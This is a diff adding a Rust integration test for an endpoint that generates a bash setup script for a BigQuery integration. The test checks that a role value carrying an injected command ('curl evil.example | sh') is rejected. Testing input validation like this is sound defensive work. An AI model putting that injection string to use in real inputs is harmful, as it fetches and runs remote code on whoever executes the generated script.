@@ -129,3 +129,34 @@ async fn an_integration_end_to_end() {
         assert!(!logs.contains(&token), "an access token reached the log");
     }
 }
+
+/// The setup script from the endpoint: bash, ready to pipe to a file; asked for with the
+/// project and the account's name (the key does not exist yet); a hostile name refused
+/// naming its field; no script for the other kinds.
+#[tokio::test]
+async fn the_setup_script_endpoint() {
+    let server = Server::start_binary_with_env(SHIPPED, &Backend::Sqlite, tempfile::tempdir().unwrap(), &[]).await;
+    let asked = json!({"type": "Google BigQuery", "autoBootstrap": false, "config": {"role": "wardenRole",
+        "datasetSuffix": "_secure", "location": "US", "projectId": "acme-analytics", "serviceAccount": "warden-gov"}});
+    let script = server.call("POST", "/integrations/scripts/create", Some(&asked)).await;
+    assert_eq!(script.status, 200, "{}", script.text);
+    assert!(
+        script.text.starts_with("#!/usr/bin/env bash\n# Warden create script for the Google BigQuery"),
+        "{}",
+        script.text
+    );
+    assert!(
+        script.text.contains("gcloud iam service-accounts create 'warden-gov' --project='acme-analytics'"),
+        "{}",
+        script.text
+    );
+
+    let mut hostile = asked.clone();
+    hostile["config"]["role"] = json!("warden'; curl evil.example | sh; '");
+    let refused = server.call("POST", "/integrations/scripts/create", Some(&hostile)).await;
+    assert_eq!(refused.status, 400, "{}", refused.text);
+    assert_eq!(refused.body["errors"][0]["path"], "config.role", "{}", refused.text);
+
+    let cleanup = server.call("POST", "/integrations/scripts/cleanup", Some(&asked)).await;
+    assert_eq!(cleanup.status, 400, "{}", cleanup.text);
+}
